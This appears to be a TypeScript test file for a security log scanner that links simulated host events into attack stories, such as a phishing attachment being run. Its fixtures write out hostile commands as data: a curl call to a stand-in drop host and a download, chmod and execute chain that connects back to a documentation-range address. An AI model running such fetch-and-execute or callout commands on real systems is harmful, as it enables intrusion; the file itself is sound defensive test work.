import assert from 'node:assert/strict';
import { test } from 'node:test';
import { HOUR, HostLog, MINUTE } from './an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog, storyOf } from './an0656-phishing-attachment-executed/stories.test-support.ts';

/** Where no record tells who saved a file, the client that its person had open is told with it. */

const FILE = '/home/buyer/Downloads/price.py';

async function told(act: (log: HostLog) => void) {
  const log = new HostLog({ files: false, network: false });
  log.deliver({ to: 'buyer' });
  act(log);
  log.shell('buyer').run(['/usr/bin/python3', FILE]).run('/usr/bin/curl http://drop.example.net/c');
  const story = storyOf(await scanLog(log), 'AN0656');
  return {
    clients: story.steps.filter(({ summary }) => summary.includes('thunderbird')).map(({ summary }) => summary),
    links: story.links.filter(({ kind }) => kind === 'host-and-time').map(({ strength }) => strength),
  };
}

test('the mail client of the person who ran it, as far as it was open that day', async () => {
  const open = (user: string) => (log: HostLog) => {
    log.desktop(user).run('/usr/bin/thunderbird');
    log.wait(20 * MINUTE);
  };
  const found = await told(open('buyer'));
  assert.equal(found.clients.length, 1);
  assert.match(found.clients[0] as string, /thunderbird \(pid \d+\) is started by buyer$/);
  assert.deepEqual(found.links, ['inferred']);

  const long = await told(log => {
    log.desktop('buyer').run('/usr/bin/thunderbird');
    log.wait(13 * HOUR);
  });
  assert.deepEqual(long, { clients: [], links: [] });
});

test('a browser is told by its last connection, and by none to this host', async () => {
  const log = new HostLog({ files: false });
  const browser = log.desktop('dev').run('/usr/bin/firefox');
  browser.connect('203.0.113.80', 443);
  browser.connect('2001:db8::7', 443);
  browser.connect('127.0.0.1', 9000);
  log.wait(MINUTE);
  const shell = log.shell('dev');
  shell.run('/usr/bin/curl -o /home/dev/x http://203.0.113.67/x').connect('203.0.113.67', 80);
  shell.run('/usr/bin/chmod +x x', { cwd: '/home/dev' });
  shell.run('/home/dev/x').connect('203.0.113.67', 9001);
  const story = storyOf(await scanLog(log), 'AN0321');
  const kinds = story.steps.map(({ kind, summary }) => `${kind} ${summary}`);
  assert.match(kinds[0] as string, /^network\.connected .*firefox \(pid \d+\) connects to \[2001:db8::7\]:443$/);
  assert.ok(
    kinds.some(each => /^file\.made-executable .*chmod/.test(each)),
    kinds.join('\n'),
  );
  const [first] = story.steps;
  const factor = story.factors.find(({ name }) => name === 'a browser or messenger was used just before');
  assert.ok(factor?.steps.includes(first?.id ?? ''), 'the factor cites it');
});
